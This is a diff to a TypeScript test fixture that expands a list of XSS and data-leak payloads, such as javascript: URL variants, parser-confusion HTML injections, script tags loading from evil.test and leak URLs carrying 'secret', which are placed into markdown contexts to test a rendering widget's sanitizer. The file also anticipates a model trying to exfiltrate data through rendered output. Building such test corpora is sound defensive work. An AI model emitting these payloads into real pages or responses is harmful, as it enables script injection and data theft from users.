@@ -11,6 +11,14 @@ const URLS = [
   "https://evil.test/?leak=secret",
   "file:///etc/passwd",
   "blob:https://evil.test/1",
+  "https://evil.test/x.png#1",
+  "http://127.0.0.1:1/x",
+  "data:image/svg+xml;base64,PHN2Zy8+",
+  "javascript&colon;alert(1)",
+  "&#106;avascript:alert(1)",
+  "wss://evil.test/",
+  "ftp://evil.test/",
+  "mailto:x@evil.test?body=secret",
 ];
 
 const LINKS = URLS.flatMap((url) => [
@@ -28,6 +36,26 @@ const LINKS = URLS.flatMap((url) => [
 ]);
 
 const HTML = [
+  "<body onload=alert(1)>",
+  "<audio src=https://evil.test/x autoplay>",
+  "<embed src=https://evil.test/x>",
+  "<image href=https://evil.test/x>",
+  "<svg><use href='https://evil.test/x#y'/></svg>",
+  "<svg><foreignObject><img src=https://evil.test/x></foreignObject></svg>",
+  "<template><img src=https://evil.test/x></template>",
+  "<p style=background:url(https://evil.test/x)>x</p>",
+  "<table background=https://evil.test/x>",
+  "<script src=https://evil.test/x></script>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<textarea><img src=x onerror=alert(1)></textarea>",
+  "<title><img src=x onerror=alert(1)></title>",
+  "<marquee onstart=alert(1)>",
+  "<a href=https://evil.test/ ping=https://evil.test/p>x</a>",
+  "<input type=image src=https://evil.test/x>",
+  "<picture><source srcset=https://evil.test/x></picture>",
+  "<frameset><frame src=https://evil.test/></frameset>",
+  "<xmp><img src=x onerror=alert(1)></xmp>",
+  "<button form=f formaction=javascript:alert(1)>x</button>",
   "<script>alert(1)</script>",
   "<img src=x onerror=alert(1)>",
   "<svg/onload=alert(1)>",
@@ -59,8 +87,14 @@ const PLACES = (payload: string) => [
   `# ${payload}`,
   `1. ${payload}\n   - ${payload}`,
   `text *${payload}* [1] ${payload}`,
+  `[1][${payload}]`,
+  `> ${payload}`,
+  `| a |\n|---|\n| ${payload} |`,
+  `\\${payload}`,
+  `~~~\n${payload}`,
+  `***${payload}`,
 ];
 
 /** What a hostile document or model would like the widget to render. */
 export const PAYLOADS = [...LINKS, ...HTML.flatMap(PLACES), ...URLS.flatMap(PLACES)];
-export const HOSTILE_URLS = URLS.filter((url) => !url.startsWith("https:"));
+export const HOSTILE_URLS = URLS.filter((url) => !/^https?:/.test(url));
